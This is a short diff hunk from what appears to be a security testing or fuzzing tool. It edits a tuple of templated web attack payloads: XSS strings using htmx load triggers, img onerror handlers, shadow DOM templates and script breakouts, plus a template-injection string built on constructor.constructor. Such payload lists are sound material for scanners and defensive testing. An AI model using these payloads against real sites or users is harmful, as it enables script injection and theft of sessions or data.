@@ -46,7 +46,7 @@ PAYLOADS = (
     '<div style="background:url({url});position:fixed;inset:0">press</div>',
     '<img src="{url}"><img srcset="{url} 1x">',
     '<div hx-get="{url}" hx-trigger="load" hx-on::load="{js}">x</div>',
-    '<div data-hx-get="{url}" data-hx-trigger="load" data-live="inbox" data-key="j">x</div>',
+    '<div data-hx-get="{url}" data-hx-trigger="load" data-look="inbox" data-key="j">x</div>',
     '<template shadowrootmode=open><img src=x onerror="{js}"></template>',
     "<xmp><script>{js}</script></xmp><plaintext>",
     "{{{{constructor.constructor('{js}')()}}}}{{% debug %}}${{{js}}}",
